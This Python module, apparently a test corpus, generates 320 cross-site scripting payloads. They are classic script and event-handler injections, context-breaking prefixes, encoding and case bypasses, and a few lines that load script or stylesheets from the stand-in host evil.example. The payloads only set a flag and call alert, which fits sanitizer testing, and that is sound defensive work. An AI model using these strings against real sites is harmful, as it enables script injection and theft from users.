"""Texts that would run as script somewhere if a page ever took them for markup: 320 of them, each different."""

from __future__ import annotations

from itertools import product

RUN = "window.ran=1;alert(1)"

_CLASSIC = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f'"><svg onload="{RUN}">',
    f"'><details open ontoggle={RUN}>",
    f"javascript:{RUN}",
    f"</title><script>{RUN}</script>",
    f"</pre></code><iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<a href='javascript:{RUN}'>click</a>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<form action='javascript:{RUN}'><input type=submit autofocus>",
    "<base href='//evil.example/'><script src='x.js'></script>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';body{background:url(//evil.example/y)}</style>",
    "{{7*7}}${7*7}<%= 7*7 %>{% raw %}",
    "\u202eevil\u2066\u0007\u001b[31m",
    f"\ufeff<ſcript>{RUN}</ſcript>",
    f"<!--><script>{RUN}</script>-->",
)
# Ways out of where a text may stand …
_OUT = (
    "",
    '">',
    "'>",
    "</script>",
    "</textarea>",
    "</title>",
    "</template>",
    "-->",
    "</pre>",
    "</option>",
    "\\u003c",
    "`>",
)
# … and what would run then.
_RUNS = (
    f"<svg/onload={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video src=x onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<object data='javascript:{RUN}'>",
    f"<embed src='javascript:{RUN}'>",
    f"<svg><script>{RUN}</script>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x",
    f"<button formaction='javascript:{RUN}'>x",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<x contenteditable autofocus onfocus={RUN} tabindex=1>",
    f"<img src=x: onerror&#61;{RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img/src=x\tonerror={RUN}>",
    f"<img src='x'onerror={RUN}//",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"<iframe src='data:text/html,<script>parent.{RUN}</script>'>",
    f"<select><noembed></select><script>{RUN}</script>",
    f"<dialog open onclose={RUN}><form method=dialog>",
    f"<style onload={RUN}></style>",
)

PAYLOADS: tuple[str, ...] = (*_CLASSIC, *(out + run for out, run in product(_OUT, _RUNS)))
